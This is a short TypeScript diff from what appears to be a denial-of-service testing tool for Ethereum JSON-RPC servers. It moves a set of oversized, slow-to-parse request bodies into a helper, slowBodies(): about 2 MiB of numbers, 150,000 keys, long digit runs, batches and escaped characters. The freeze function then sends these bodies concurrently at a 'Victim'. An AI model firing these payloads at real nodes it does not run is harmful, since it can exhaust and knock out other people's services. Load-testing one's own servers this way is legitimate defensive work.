@@ -17,16 +17,21 @@ function tally(statuses: readonly (number | string)[]): string {
 
 const call = (params: string) => `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":${params}}`
 
-/** Bodies of 2 MiB that take long to parse: numbers, keys, batches. */
-export async function freeze({ server, rpc }: Victim): Promise<Finding> {
+/** Bodies of up to 2 MiB that take long to parse: numbers, keys, batches. */
+export function slowBodies(): readonly string[] {
   const keys = Array.from({ length: 150_000 }, (_, index) => `"${index.toString(36)}":{}`)
-  const bodies = [
+  return [
     call(`[${'1,'.repeat(1_040_000)}1.5]`),
     call(`[{${keys}},1.5]`),
     call(`[${`${'9'.repeat(20)},`.repeat(24_000)}1]`),
     `[${Array(1_000).fill(call(`["${'a'.repeat(1_900)}",1.5]`))}]`,
     call(`["${'\\u0001'.repeat(340_000)}"]`),
   ]
+}
+
+/** Sends those, several at once. */
+export async function freeze({ server, rpc }: Victim): Promise<Finding> {
+  const bodies = slowBodies()
   const statuses: (number | string)[] = []
   for (let round = 0; round < scale(6, 3); round++) {
     await Promise.all(
